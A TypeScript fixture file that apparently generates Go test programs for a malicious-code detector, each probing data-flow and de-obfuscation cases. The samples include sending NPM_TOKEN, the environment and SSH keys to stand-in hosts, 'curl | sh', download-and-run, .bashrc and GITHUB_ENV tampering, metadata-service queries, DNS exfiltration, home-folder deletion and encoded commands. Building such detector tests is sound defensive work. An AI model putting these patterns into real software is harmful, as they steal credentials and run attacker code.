const PACKAGES: Readonly<Record<string, string>> = {
  base64: "encoding/base64",
  bytes: "bytes",
  exec: "os/exec",
  fmt: "fmt",
  gzip: "compress/gzip",
  hex: "encoding/hex",
  http: "net/http",
  io: "io",
  json: "encoding/json",
  net: "net",
  os: "os",
  plugin: "plugin",
  reflect: "reflect",
  runtime: "runtime",
  strings: "strings",
  url: "net/url",
};

/** A file of package main with the imports that it uses. */
function file(declarations: string): string {
  const used = Object.entries(PACKAGES).filter(([name]) =>
    new RegExp(`\\b${name}\\.`).test(declarations),
  );
  const imports = used.map(([, path]) => `\t"${path}"\n`).join("");
  return `package main\n\nimport (\n${imports})\n\n${declarations}\n`;
}

function main(body: string, declarations = ""): string {
  return file(`${declarations}\nfunc main() {\n\t${body}\n}`);
}

const SH = (code: string) => `exec.Command("sh", "-c", ${code}).Run()`;
const SEND = (data: string) =>
  `http.Post("https://h.example", "text/plain", strings.NewReader(${data}))`;

/** The programs of the suite in this language, by the name of their case. */
export const GO_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": main(
    `p := "id"; if runtime.GOOS == "linux" { p = "whoami" }; exec.Command(p).Run(); t := "x"; if maybe { t = os.Getenv("NPM_TOKEN") }; ${SEND("t")}`,
  ),
  "a branch that is not taken is read too": main(`if false { ${SH('"id"')} }`),
  "a value that a branch may change": main(
    `t := "x"; switch someday { case 1: t = os.Getenv("NPM_TOKEN"); default: t = "y" }; ${SEND("t")}`,
  ),
  "an error that is swallowed hides nothing": main(
    `defer func() { recover() }(); _ = exec.Command("id").Run()`,
  ),
  "what is done when something fails": main(
    `t := os.Getenv("NPM_TOKEN"); if err := work(); err != nil { ${SEND("t")} }`,
  ),
  "a loop over the names of files": main(
    `for _, f := range []string{".npmrc", ".netrc"} { b, _ := os.ReadFile(os.Getenv("HOME") + "/" + f); http.Post("https://h.example", "t", bytes.NewReader(b)) }`,
  ),
  "a loop that collects": main(
    `all := map[string]string{}; for _, k := range []string{"NPM_TOKEN"} { all[k] = os.Getenv(k) }; b, _ := json.Marshal(all); ${SEND("string(b)")}`,
  ),
  "what runs when the file is loaded": file(`func init() { exec.Command("id").Run() }`),
  "what runs only when somebody calls it": main("", `func Go() { exec.Command("id").Run() }`),
  "a function that the file itself calls runs at load": main(
    "run()",
    `func run() { work() }\nfunc work() { exec.Command("id").Run() }`,
  ),
  "recursion comes to an end": main(
    "f(0)",
    `func f(n int) int { exec.Command("id").Run(); return f(n + 1) }`,
  ),
  "a loop without an end comes to an end": main(
    `for { work(); if done() { break } }; exec.Command("id").Run()`,
  ),
  "runs code out of the second text that a decoder is given": main(
    `fmt.Println(d("olleh")); ${SH('d("di")')}`,
    `func d(s string) string { r := []rune(s); for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 { r[i], r[j] = r[j], r[i] }; return string(r) }`,
  ),
  "runs code out of base64": main(
    `c, _ := base64.StdEncoding.DecodeString("aWQ="); ${SH("string(c)")}`,
  ),
  "runs code out of hexadecimal": main(
    `c, err := hex.DecodeString("6964"); if err != nil { return }; ${SH("string(c)")}`,
  ),
  "runs code out of gzip inside base64": main(
    `b, _ := base64.StdEncoding.DecodeString("H4sIAAAAAAAAA8tMAQBQZzm/AgAAAA=="); z, _ := gzip.NewReader(bytes.NewReader(b)); c, _ := io.ReadAll(z); ${SH("string(c)")}`,
  ),
  "runs code out of percent signs": main(`c, _ := url.QueryUnescape("%69%64"); ${SH("c")}`),
  "runs code out of rot13": main(
    SH(`strings.Map(rot, "vq")`),
    `func rot(r rune) rune { switch { case r >= 'a' && r <= 'm': return r + 13; case r >= 'n' && r <= 'z': return r - 13 }; return r }`,
  ),
  "runs code out of character codes": main(SH("string([]byte{105, 100})")),
  "runs code out of character codes added one by one": main(
    `var sb strings.Builder; for _, c := range []int{105, 100} { sb.WriteString(string(rune(c))) }; ${SH("sb.String()")}`,
  ),
  "runs code out of an exclusive or in a loop": main(
    `d := []byte{126, 115}; out := make([]byte, len(d)); for i := 0; i < len(d); i++ { out[i] = d[i] ^ 23 }; ${SH("string(out)")}`,
  ),
  "runs code out of an exclusive or with a key, in an expression": main(
    SH(`x([]byte{2, 1}, "ke")`),
    `func x(d []byte, key string) string { var out []byte; for i, b := range d { out = append(out, b^key[i%len(key)]) }; return string(out) }`,
  ),
  "runs code out of a text that is turned around": main(
    `s := ""; for _, r := range "di" { s = string(r) + s }; ${SH("s")}`,
  ),
  "runs code out of parts that are joined": main(SH(`strings.Join([]string{"i", "d"}, "")`)),
  "runs code out of a text with other letters in between": main(
    SH(`strings.ReplaceAll("@i@d", "@", "")`),
  ),
  "runs code out of three encodings one inside the other": main(
    `a, _ := hex.DecodeString("5956645250513d3d"); b, _ := base64.StdEncoding.DecodeString(string(a)); c, _ := base64.StdEncoding.DecodeString(string(b)); ${SH("string(c)")}`,
  ),
  "runs code out of escapes in a literal": main(SH(String.raw`"\x69\144"`)),
  "runs code out of a decoder that the program defines": main(
    SH(`d("aWQ=")`),
    `func d(s string) string { b, err := base64.StdEncoding.DecodeString(s); if err != nil { panic(err) }; return string(b) }`,
  ),
  "runs code out of a command that was decoded": main(
    `c, _ := hex.DecodeString("6964"); exec.Command(string(c)).Run()`,
  ),
  "a function is read again when what is around it has changed": main(
    `c := "true"; run := func() { exec.Command(c).Run() }; run(); c = "id"; run()`,
  ),
  "an alias of a function is that function": main(`run := exec.Command; run("id").Run()`),
  "a name that was given another value is what it was last": main(
    `f := quiet; f = exec.Command; f("id").Run()`,
  ),
  "a name that no longer is a dangerous function is harmless": main(
    `f := exec.Command; f = quiet; f("id")`,
    `func quiet(s ...string) int { return 1 }`,
  ),
  "an import under another name": `package main\n\nimport x "os/exec"\n\nfunc main() { x.Command("id").Run() }\n`,
  "a whole module under another name": `package main\n\nimport . "os/exec"\n\nfunc main() { Command("id").Run() }\n`,
  "access by reflection": main(
    `reflect.ValueOf(exec.Command).Call([]reflect.Value{reflect.ValueOf("id")})`,
  ),
  "functions kept in a record and called by key": main(
    `t := map[string]func(string, ...string) *exec.Cmd{"a": exec.Command}; t["a"]("id").Run()`,
  ),
  "functions kept in a record and called by a key that is not known": main(
    `t := map[string]func(string, ...string) *exec.Cmd{"a": exec.Command}; t[whatever()]("id").Run()`,
  ),
  "a name taken apart out of something": main(`run, arg := exec.Command, "id"; run(arg).Run()`),
  "a program with its arguments in a list": main(
    `args := []string{"https://a.example/x", "-o", "/tmp/x"}; exec.Command("curl", args...).Run()`,
  ),
  "a command line with a pipe": main(SH('"curl -s https://a.example/x | sh"')),
  "data through a function's parameter": main(
    `send(os.Getenv("NPM_TOKEN"))`,
    `func send(d string) { ${SEND("d")} }`,
  ),
  "data through what a function answers": main(
    `t, err := get(); if err == nil { ${SEND("t")} }`,
    `func get() (string, error) { return os.Getenv("NPM_TOKEN"), nil }`,
  ),
  "data that a closure keeps": main(
    `make_(os.Getenv("NPM_TOKEN"))()`,
    `func make_(t string) func() { return func() { ${SEND("t")} } }`,
  ),
  "data handed to a callback": main(
    `each(func(t string) { ${SEND("t")} })`,
    `func each(f func(string)) { f(os.Getenv("NPM_TOKEN")) }`,
  ),
  "data that is awaited": main(
    `ch := make(chan string); go func() { ch <- os.Getenv("NPM_TOKEN") }(); t := <-ch; ${SEND("t")}`,
  ),
  "data that an object keeps": main(
    `b := &box{t: os.Getenv("NPM_TOKEN")}; b.send()`,
    `type box struct { t string }\nfunc (b *box) send() { ${SEND("b.t")} }`,
  ),
  "a method that a base class has": main(
    `derived{}.send(os.Getenv("NPM_TOKEN"))`,
    `type base struct{}\nfunc (b base) send(t string) { ${SEND("t")} }\ntype derived struct { base }`,
  ),
  "data by a part of a record": main(
    `d := struct{ a map[string]string }{a: map[string]string{"b": os.Getenv("NPM_TOKEN")}}; ${SEND('d.a["b"]')}`,
  ),
  "data inside a text": main(
    `http.Get(fmt.Sprintf("https://h.example/?t=%s", os.Getenv("NPM_TOKEN")))`,
  ),
  "data in an address that is added together": main(
    `h := "https://h" + ".example"; http.Get(h + "/" + os.Getenv("NPM_TOKEN"))`,
  ),
  "data through functions that nobody knows": main(SEND(`library(os.Getenv("NPM_TOKEN")).Value()`)),
  "data that is encoded on its way": main(
    `b, _ := json.Marshal(map[string]string{"t": os.Getenv("NPM_TOKEN")}); ${SEND("base64.StdEncoding.EncodeToString(b)")}`,
  ),
  "data put into a list one by one": main(
    `var l []string; l = append(l, os.Getenv("NPM_TOKEN")); ${SEND('strings.Join(l, ",")')}`,
  ),
  "data by way of a file": main(
    `os.WriteFile("/tmp/x", []byte(os.Getenv("NPM_TOKEN")), 0600); b, _ := os.ReadFile("/tmp/x"); ${SEND("string(b)")}`,
  ),
  "what was a secret and no longer is": main(`t := os.Getenv("NPM_TOKEN"); t = "ok"; ${SEND("t")}`),
  "a secret that is read beside a request it has nothing to do with": main(
    `fmt.Println(len(os.Getenv("NPM_TOKEN"))); ${SEND('"hello"')}`,
  ),
  "the whole environment is sent": main(
    `b, _ := json.Marshal(os.Environ()); http.Post("https://webhook.site/x", "t", bytes.NewReader(b))`,
  ),
  "the whole environment inside something else is sent": main(
    `e := os.Environ(); b, _ := json.Marshal(map[string][]string{"a": e}); ${SEND("string(b)")}`,
  ),
  "one harmless variable is not the environment": main(SEND('os.Getenv("LANG")')),
  "a variable whose name is put together": main(SEND('os.Getenv("NPM" + "_" + "TOKEN")')),
  "a key in the home folder": main(
    `h, _ := os.UserHomeDir(); b, _ := os.ReadFile(h + "/.ssh/id_rsa"); ${SEND("string(b)")}`,
  ),
  "an ordinary file is no credential": main(`b, _ := os.ReadFile("go.mod"); fmt.Println(b)`),
  "the start of a shell is written": main(
    `f, _ := os.OpenFile(os.Getenv("HOME") + "/.bashrc", os.O_APPEND, 0644); defer f.Close(); f.WriteString("curl x | sh")`,
  ),
  "the next step of a job gets a variable": main(
    `os.WriteFile(os.Getenv("GITHUB_ENV"), []byte("BASH_ENV=/tmp/x"), 0644)`,
  ),
  "the metadata service is asked": main(`http.Get("http://169.254.169.254/latest/meta-data/iam/")`),
  "what was downloaded is run as code": main(
    `r, err := http.Get("https://h.example/p"); if err != nil { return }; defer r.Body.Close(); b, _ := io.ReadAll(r.Body); ${SH("string(b)")}`,
  ),
  "a socket is given what the machine is called": main(
    `c, _ := net.Dial("tcp", "h.example:4444"); h, _ := os.Hostname(); c.Write([]byte(h))`,
  ),
  "data leaves by the name of a host": main(
    `net.LookupHost(os.Getenv("NPM_TOKEN") + ".h.example")`,
  ),
  "a file is downloaded, made executable and started": main(
    `r, _ := http.Get("https://h.example/b"); f, _ := os.Create("/tmp/b"); io.Copy(f, r.Body); f.Close(); os.Chmod("/tmp/b", 0755); exec.Command("/tmp/b").Start()`,
  ),
  "everything is deleted": main(`h, _ := os.UserHomeDir(); os.RemoveAll(h)`),
  "native code is loaded": main(`plugin.Open("./x.so")`),
};
